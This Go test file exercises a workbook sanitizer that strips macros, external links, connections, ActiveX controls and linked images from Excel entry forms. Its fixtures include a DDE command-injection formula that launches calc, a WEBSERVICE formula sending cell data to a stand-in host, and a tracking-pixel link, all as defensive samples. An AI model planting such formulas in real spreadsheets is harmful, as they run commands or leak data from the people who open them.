package entrysheet

import (
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const (
	relOffice = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	relRoot   = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
)

func rel(id, kind, target string, external bool) string {
	mode := ""
	if external {
		mode = ` TargetMode="External"`
	}
	return fmt.Sprintf(`<Relationship Id="%s" Type="%s" Target="%s"%s/>`, id, relOffice+kind, target, mode)
}

// dirtyBook is a filled form in a workbook with nearly everything that must not
// go on: macros with a button, a link to another workbook with formulas that use
// it, a connection with its query table, an embedded file, an ActiveX control
// beside a form control, and a linked picture.
func dirtyBook(t testing.TB) []byte {
	t.Helper()
	s := sampleForm(nil)
	s.put(60, 1, 1, 1, "参考：港南商工会議所")
	s.tail = `<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>[1]一覧!$A$1:$A$3</formula1></dataValidation></dataValidations>` +
		`<drawing xmlns:r="x" r:id="rId1"/><legacyDrawing xmlns:r="x" r:id="rId2"/>` +
		`<mc:AlternateContent xmlns:mc="m"><mc:Choice Requires="x14"><oleObjects><mc:AlternateContent><mc:Choice Requires="x14"><oleObject progId="Excel.Sheet.12" shapeId="1030" xmlns:r="x" r:id="rId3"><objectPr r:id="rId4"/></oleObject></mc:Choice>` +
		`<mc:Fallback><oleObject progId="Excel.Sheet.12" shapeId="1030" xmlns:r="x" r:id="rId3"/></mc:Fallback></mc:AlternateContent></oleObjects></mc:Choice></mc:AlternateContent>` +
		`<controls><control shapeId="1031" xmlns:r="x" r:id="rId5" name="Button1"/><mc:AlternateContent xmlns:mc="m"><mc:Choice Requires="x14"><control shapeId="1032" xmlns:r="x" r:id="rId6" name="Check Box 1"><controlPr macro="[0]!押した"/></control></mc:Choice></mc:AlternateContent></controls>`
	s.rels = rel("rId1", "drawing", "../drawings/drawing1.xml", false) + rel("rId2", "vmlDrawing", "../drawings/vmlDrawing1.vml", false) + rel("rId3", "package", "../embeddings/Microsoft_Excel_Sheet.xlsx", false) +
		rel("rId4", "image", "../media/image1.emf", false) + rel("rId5", "control", "../activeX/activeX1.xml", false) + rel("rId6", "ctrlProp", "../ctrlProps/ctrlProp1.xml", false) +
		rel("rId7", "queryTable", "../queryTables/queryTable1.xml", false) + rel("rId8", "hyperlink", "https://nada-sake.example/", true)
	shape := func(id, kind, inside string) string {
		return `<v:shape id="_x0000_s` + id + `" type="#t"><x:ClientData ObjectType="` + kind + `">` + inside + `</x:ClientData></v:shape>`
	}
	b := (&testBook{sheets: []*testSheet{s}, parts: map[string]string{
		"xl/vbaProject.bin":                             "\xD0\xCF\x11\xE0 macro",
		"xl/externalLinks/externalLink1.xml":            `<externalLink><externalBook/></externalLink>`,
		"xl/externalLinks/_rels/externalLink1.xml.rels": relRoot + rel("rId1", "externalLinkPath", "file:///C:/secret/原価.xlsx", true) + `</Relationships>`,
		"xl/connections.xml":                            `<connections><connection id="1" connection="Password=secret"/></connections>`,
		"xl/queryTables/queryTable1.xml":                `<queryTable name="q" connectionId="1"/>`,
		"xl/calcChain.xml":                              `<calcChain><c r="B70"/></calcChain>`,
		"xl/embeddings/Microsoft_Excel_Sheet.xlsx":      "PK embedded",
		"xl/media/image1.emf":                           "picture",
		"xl/activeX/activeX1.xml":                       `<ax:ocx xmlns:ax="a"/>`,
		"xl/activeX/_rels/activeX1.xml.rels":            relRoot + `<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" Target="activeX1.bin"/></Relationships>`,
		"xl/activeX/activeX1.bin":                       "control",
		"xl/ctrlProps/ctrlProp1.xml":                    `<formControlPr objectType="CheckBox" checked="Checked"/>`,
		"xl/drawings/vmlDrawing1.vml":                   `<xml xmlns:v="v" xmlns:x="x">` + shape("1030", "Pict", "") + shape("1031", "Pict", "") + shape("1032", "Checkbox", "<x:FmlaMacro>[0]!押した</x:FmlaMacro><x:Checked>1</x:Checked>") + `</xml>`,
		"xl/drawings/drawing1.xml": `<xdr:wsDr xmlns:xdr="d" xmlns:a="a" xmlns:r="r" xmlns:mc="m"><mc:AlternateContent><mc:Choice Requires="a14"><xdr:sp macro=""><a14:compatExt xmlns:a14="b" spid="_x0000_s1031"/></xdr:sp></mc:Choice><mc:Fallback/></mc:AlternateContent>` +
			`<xdr:sp macro="[0]!押した"><xdr:txBody><a:p><a:r><a:rPr><a:latin typeface="x"/></a:rPr><a:t>港南商工</a:t></a:r><a:r><a:t>会議所 様</a:t></a:r></a:p></xdr:txBody></xdr:sp><xdr:pic><a:blip r:embed="rId1" r:link="rId2"/></xdr:pic></xdr:wsDr>`,
		"xl/drawings/_rels/drawing1.xml.rels": relRoot + rel("rId1", "image", "../media/image1.emf", false) + rel("rId2", "image", "https://tracker.example/x.png", true) + `</Relationships>`,
		"docProps/core.xml":                   `<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:creator>山田 一郎</dc:creator><cp:lastModifiedBy/></cp:coreProperties>`,
	}}).bytes()
	b = rezip(t, b, "xl/_rels/workbook.xml.rels", func(s string) string {
		return strings.Replace(s, "</Relationships>", `<Relationship Id="rId800" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`+
			rel("rId801", "externalLink", "externalLinks/externalLink1.xml", false)+rel("rId802", "connections", "connections.xml", false)+rel("rId803", "calcChain", "calcChain.xml", false)+"</Relationships>", 1)
	})
	b = rezip(t, b, "xl/workbook.xml", func(s string) string {
		return strings.Replace(s, "</sheets>", `</sheets><externalReferences><externalReference r:id="rId801"/></externalReferences><definedNames><definedName name="原価">[1]一覧!$A$1</definedName><definedName name="控え">Sheet9!$A$1</definedName></definedNames>`, 1)
	})
	b = rezip(t, b, "xl/worksheets/sheet1.xml", func(s string) string {
		return strings.Replace(s, "</sheetData>", `<row r="70"><c r="A70"><f>SUM(C70:D70)</f><v>3</v></c><c r="B70"><f t="shared" ref="B70:B71" si="0">'[1]一覧'!A1*2</f><v>10</v></c><c r="C70"><f>Table1[2020]+LEN("[1]x!")</f><v>1</v></c><c r="D70" t="str"><f>cmd|' /c calc'!A0</f><v>x</v></c></row>`+
			`<row r="71"><c r="B71"><f t="shared" si="0"/><v>20</v></c><c r="C71"><f>WEBSERVICE("https://x.example/"&amp;A1)</f><v>7</v></c></row></sheetData>`, 1)
	})
	return rezip(t, b, "[Content_Types].xml", func(s string) string {
		return strings.Replace(strings.Replace(s, typeWorkbook, "application/vnd.ms-excel.sheet.macroEnabled.main+xml", 1), "</Types>",
			`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="emf" ContentType="image/x-emf"/><Override PartName="/xl/connections.xml" ContentType="c"/></Types>`, 1)
	})
}

func kindsOf(found []Finding) []Extra {
	var kinds []Extra
	for _, f := range found {
		if !slices.Contains(kinds, f.Kind) {
			kinds = append(kinds, f.Kind)
		}
	}
	slices.Sort(kinds)
	return kinds
}

func TestCleanTakesOutWhatCanRunOrReachOutside(t *testing.T) {
	dirty := dirtyBook(t)
	clean, removed, err := Clean(dirty, DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	want := []Extra{ExtraActiveX, ExtraConnection, ExtraEmbedded, ExtraExternalLink, ExtraLinkedImage, ExtraMacro}
	if diff := cmp.Diff(want, kindsOf(removed)); diff != "" {
		t.Errorf("removed: %s", diff)
	}
	if Sniff(clean) != FormatXLSX {
		t.Errorf("it is still %s", Sniff(clean))
	}
	_, oldRaw, _ := parts(t, dirty)
	names, raw, data := parts(t, clean)
	for _, gone := range []string{"vbaProject", "externalLink", "connections", "queryTable", "calcChain", "embeddings", "activeX"} {
		if i := slices.IndexFunc(names, func(n string) bool { return strings.Contains(n, gone) }); i >= 0 {
			t.Errorf("%s is still there", names[i])
		}
	}
	changed := []string{}
	for _, name := range names {
		if !bytes.Equal(raw[name], oldRaw[name]) {
			changed = append(changed, name)
		}
		if strings.HasSuffix(name, ".xml") || strings.HasSuffix(name, ".rels") {
			if err := xml.Unmarshal(data[name], new(struct{})); err != nil {
				t.Errorf("%s: %v", name, err)
			}
		}
		for _, trace := range []string{"externalLink", "secret", "macroEnabled", "vbaProject", "押した", "tracker", "rId801", "[1]一覧", "WEBSERVICE", "cmd|", "s1030", "s1031", "oleObject"} {
			if bytes.Contains(data[name], []byte(trace)) {
				t.Errorf("%s still has %q", name, trace)
			}
		}
	}
	wantChanged := []string{"[Content_Types].xml", "xl/_rels/workbook.xml.rels", "xl/drawings/_rels/drawing1.xml.rels", "xl/drawings/drawing1.xml", "xl/drawings/vmlDrawing1.vml",
		"xl/workbook.xml", "xl/worksheets/_rels/sheet1.xml.rels", "xl/worksheets/sheet1.xml"}
	slices.Sort(changed)
	if diff := cmp.Diff(wantChanged, changed); diff != "" {
		t.Errorf("changed parts: %s", diff)
	}
	sheet := string(data["xl/worksheets/sheet1.xml"])
	for _, kept := range []string{`<f>SUM(C70:D70)</f><v>3</v>`, `<c r="B70"><v>10</v></c>`, `<c r="B71"><v>20</v></c>`, `<c r="D70" t="str"><v>x</v></c>`, `Table1[2020]`, `<formula1>#REF!</formula1>`, `name="Check Box 1"`} {
		if !strings.Contains(sheet, kept) {
			t.Errorf("the sheet lacks %s", kept)
		}
	}
	if !bytes.Contains(data["xl/drawings/vmlDrawing1.vml"], []byte("<x:Checked>1")) || !bytes.Contains(data["xl/workbook.xml"], []byte(`"控え">Sheet9!`)) {
		t.Error("the form's own check box or name is gone")
	}
	if was, is := Read(dirty, DefaultLayout(), today, DefaultLimits()), Read(clean, DefaultLayout(), today, DefaultLimits()); !cmp.Equal(was.Values, is.Values) {
		t.Error("the form reads differently")
	}
	if again, removed, err := Clean(clean, DefaultLimits()); err != nil || len(removed) > 0 || !bytes.Equal(again, clean) {
		t.Errorf("cleaning twice takes more out: %v, %v", removed, err)
	}
}

func TestWhatIsCleanLeavesAsItCame(t *testing.T) {
	for name, b := range map[string][]byte{"ours": (&testBook{sheets: []*testSheet{sampleForm(nil)}}).bytes(), "excelize's": excelizeForm(t, nil)} {
		clean, removed, err := Clean(b, DefaultLimits())
		if err != nil || len(removed) > 0 || !bytes.Equal(clean, b) {
			t.Errorf("%s: removed %v, %v", name, removed, err)
		}
	}
}

func TestCleanReadsPackagesThatCloseEveryElement(t *testing.T) {
	closed := strings.NewReplacer(`ContentType="c"/>`, `ContentType="c"></Override>`, `vbaProject"/>`, `vbaProject"></Default>`)
	b := rezip(t, dirtyBook(t), "[Content_Types].xml", closed.Replace)
	b = rezip(t, b, "xl/_rels/workbook.xml.rels", func(s string) string { return strings.ReplaceAll(s, "/>", "></Relationship>") })
	clean, removed, err := Clean(b, DefaultLimits())
	if err != nil || len(removed) == 0 || Sniff(clean) != FormatXLSX {
		t.Fatalf("removed %v, %v", removed, err)
	}
	_, _, data := parts(t, clean)
	for _, name := range []string{"[Content_Types].xml", "xl/_rels/workbook.xml.rels"} {
		if err := xml.Unmarshal(data[name], new(struct{})); err != nil || bytes.Contains(data[name], []byte("connections")) || bytes.Contains(data[name], []byte("vbaProject")) {
			t.Errorf("%s: %v\n%s", name, err, data[name])
		}
	}
}

func TestWhatCannotBeMadeSafeIsRefused(t *testing.T) {
	with := func(relation string) []byte {
		return rezip(t, (&testBook{sheets: []*testSheet{sampleForm(nil)}, parts: map[string]string{"xl/x.xml": `<pivotCacheDefinition><cacheSource type="external"/></pivotCacheDefinition>`}}).bytes(), "xl/_rels/workbook.xml.rels", func(s string) string {
			return strings.Replace(s, "</Relationships>", relation+"</Relationships>", 1)
		})
	}
	for name, b := range map[string][]byte{
		"macro sheet":        with(rel("rId800", "xlMacrosheet", "x.xml", false)),
		"pivot on a server":  with(rel("rId800", "pivotCacheDefinition", "x.xml", false)),
		"legacy workbook":    oleFile(false, "Workbook"),
		"no workbook":        []byte("text"),
		"encrypted workbook": oleFile(true, "EncryptedPackage"),
	} {
		if out, _, err := Clean(b, DefaultLimits()); !errors.Is(err, ErrNotCleanable) || out != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestAFormulaThatReachesOutsideIsTold(t *testing.T) {
	for formula, want := range map[string]Extra{
		"SUM(A1:B2)": "", `"[1]Sheet1!A1"`: "", "Table1[2020]": "", "表1[[#All],[2020]]": "", "[0]!MyName": "", "IF(A1=\"a|b!\",1,2)": "", "MYCALL(1)": "", "RECALL(1)": "",
		"[1]Sheet1!A1": ExtraExternalLink, "'[2]シート 1'!$A$1+1": ExtraExternalLink, "SUM([1]a!A1)": ExtraExternalLink, `'C:\x\[b.xlsx]Sheet'!A1`: ExtraExternalLink, "[12]!name": ExtraExternalLink,
		"cmd|'/c calc'!A0": ExtraExternalLink, `DDE("cmd";"x";"y")`: ExtraConnection, "_xlfn.WEBSERVICE(A1)": ExtraConnection, "CUBEVALUE(A1)": ExtraConnection, "1+rtd(A1)": ExtraConnection, "_xlfn.IMAGE(A1)": ExtraConnection,
	} {
		if got, outside := reachesOutside(formula); got != want || outside != (want != "") {
			t.Errorf("%s: %q", formula, got)
		}
	}
}

func TestBesidesTellsWhatTheFormDoesNotShow(t *testing.T) {
	form := sampleForm(nil)
	form.put(80, 2, 1, 1, "値引き率 30%")
	form.tail = `<headerFooter><oddHeader>&amp;C社外秘</oddHeader></headerFooter>`
	form.rels = rel("rId1", "comments", "../comments1.xml", false) + rel("rId2", "hyperlink", "https://nada-sake.example/", true) + rel("rId3", "image", "../media/image1.png", false)
	notes, codes, secret := &testSheet{name: "メモ"}, &testSheet{name: "選択肢", state: "hidden"}, &testSheet{name: "原価", state: "veryHidden"}
	notes.put(1, 1, 1, 1, "他機関にも相談中")
	codes.put(1, 1, 1, 1, "はい")
	secret.put(3, 3, 1, 1, "1200").typ = "n"
	b := (&testBook{sheets: []*testSheet{form, notes, codes, secret, {name: "空"}}, parts: map[string]string{
		"xl/comments1.xml":    `<comments><authors><author>山田</author></authors><commentList><comment ref="C4" authorId="0"><text><r><t>確認</t></r><r><t>中です</t></r></text></comment></commentList></comments>`,
		"xl/media/image1.png": "png",
		"docProps/app.xml":    `<Properties><Company>灘酒造</Company><TitlesOfParts/></Properties>`,
		"docProps/custom.xml": `<Properties><property name="顧客番号"><vt:lpwstr xmlns:vt="v">A-1</vt:lpwstr></property></Properties>`,
	}}).bytes()
	b = rezip(t, b, "xl/worksheets/sheet1.xml", func(s string) string {
		return strings.Replace(s, `<row r="80">`, `<row r="80" hidden="1">`, 1)
	})
	found, err := Besides(b, form.name, DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range found {
		got = append(got, f.Words())
	}
	want := []string{"非表示の行（エントリーシート 80:80）「値引き率 30%」", "別のシート（メモ）「他機関にも相談中」", "非表示のシート（選択肢）「はい」", "再表示の一覧にも出ない非表示のシート（原価）「1200」",
		"ヘッダー・フッター（エントリーシート）「&C社外秘」", "ハイパーリンク（エントリーシート）「https://nada-sake.example/」",
		"ファイルのプロパティ「灘酒造」", "ファイルのプロパティ「顧客番号 = A-1」", "コメント（エントリーシート C4）「確認中です」", "画像（エントリーシート）「image1.png」"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	plain, err := Besides((&testBook{sheets: []*testSheet{sampleForm(nil)}}).bytes(), form.name, DefaultLimits())
	if err != nil || len(plain) != 0 {
		t.Errorf("an ordinary form has %v besides, %v", plain, err)
	}
	dirty, err := Besides(dirtyBook(t), form.name, DefaultLimits())
	if kinds := kindsOf(dirty); err != nil || !slices.Contains(kinds, ExtraMacro) || !slices.Contains(kinds, ExtraTextBox) || !slices.Contains(kinds, ExtraName) {
		t.Errorf("%v, %v", kinds, err)
	}
}

func TestMentionsFindsNamesWhereverTheyStand(t *testing.T) {
	form, hidden := sampleForm(nil), &testSheet{name: "非表示", state: "hidden"}
	form.put(90, 2, 1, 1, "港南　商工\n会議所にも依頼").typ = "s"
	hidden.put(2, 2, 1, 1, "港南商工会議所")
	b := (&testBook{sheets: []*testSheet{form, hidden}, parts: map[string]string{
		"xl/comments1.xml":  `<comments><commentList><comment ref="C4"><text><r><rPr><sz val="9"/></rPr><t>港南商工</t></r><r><rPr><sz val="9"/></rPr><t>会議所</t><rPh><t>カイギショ</t></rPh></r></text></comment></commentList></comments>`,
		"docProps/core.xml": `<x><a>ＫＯＢＥ　Trade</a></x>`,
	}}).bytes()
	got, err := Mentions(b, []string{"港南商工会議所", "Kobe Trade", "明石商工会", "所"}, DefaultLimits())
	want := []Mention{{"港南商工会議所", form.name, "B90", ""}, {"港南商工会議所", "非表示", "B2", ""}, {"Kobe Trade", "", "", "docProps/core.xml"}, {"港南商工会議所", "", "", "xl/comments1.xml"}}
	if diff := cmp.Diff(want, got); err != nil || diff != "" {
		t.Error(err, diff)
	}
}

// FuzzClean: whatever the bytes are, what comes out clean reads as it did and
// has nothing left to take out.
func FuzzClean(f *testing.F) {
	f.Add(dirtyBook(f))
	for _, b := range fuzzSeeds(f) {
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		if _, err := Besides(b, "エントリーシート", fuzzLimits()); err != nil && strings.Contains(err.Error(), "panic") {
			t.Fatal(err)
		}
		checkClean(t, b)
	})
}

func checkClean(t *testing.T, b []byte) {
	t.Helper()
	clean, _, err := Clean(b, fuzzLimits())
	if err != nil {
		if !errors.Is(err, ErrNotCleanable) || strings.Contains(err.Error(), "panic") {
			t.Fatal(err)
		}
		return
	}
	if _, more, err := Clean(clean, fuzzLimits()); err != nil || len(more) > 0 {
		t.Fatalf("cleaned twice: %v, %v", more, err)
	}
	if was, is := Read(b, DefaultLayout(), today, fuzzLimits()), Read(clean, DefaultLayout(), today, fuzzLimits()); was.Kind != is.Kind {
		t.Fatalf("%q became %q (%s)", was.Kind, is.Kind, is.Error)
	}
}

// FuzzCleanPart puts the bytes where no checksum guards them: into the sheet.
func FuzzCleanPart(f *testing.F) {
	book := dirtyBook(f)
	f.Add(`<worksheet><sheetData><row><c r="A1"><f t="shared" si="0">[1]a!b</f><v>1</v></c></row></sheetData><controls><control r:id="rId5"/></controls></worksheet>`)
	f.Add(`<worksheet><a macro="x" tableType = 'queryTable'><f>[1]x!y`)
	f.Fuzz(func(t *testing.T, part string) {
		checkClean(t, rezip(t, book, "xl/worksheets/sheet1.xml", func(string) string { return part }))
	})
}
